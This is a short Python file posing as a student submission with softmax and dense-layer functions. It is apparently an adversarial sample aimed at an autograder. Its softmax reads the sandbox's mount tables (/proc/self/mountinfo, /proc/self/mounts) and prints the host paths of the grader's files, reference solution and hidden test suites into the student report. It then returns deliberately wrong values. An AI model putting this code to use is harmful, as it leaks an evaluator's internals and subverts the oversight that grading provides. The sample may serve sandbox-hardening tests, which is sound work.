"""Leak: learn where the grader lives on the host from the sandbox's mount table.

/proc/self/mountinfo names the source of every bind mount: the path of the grader's own
worker files (and so of its repository, next to the reference and the hidden suites), of
the Python installation and of the submission on the host. Printed under a public property,
that reaches the student's report. The softmax returns garbage.
"""
import numpy as np


def softmax(x, axis=-1):
    for path in ("/proc/self/mountinfo", "/proc/self/mounts"):
        try:
            with open(path) as f:
                for line in f:
                    fields = line.split()
                    print("MOUNT", fields[3] if path.endswith("mountinfo") else fields[0], "->", fields[4]
                          if path.endswith("mountinfo") else fields[1])
        except OSError as exc:
            print("refused:", path, exc)
    return np.asarray(x, dtype=np.float64) * 17.0


def dense_forward(x, W, b):
    return x @ W.T + b, (x, W)
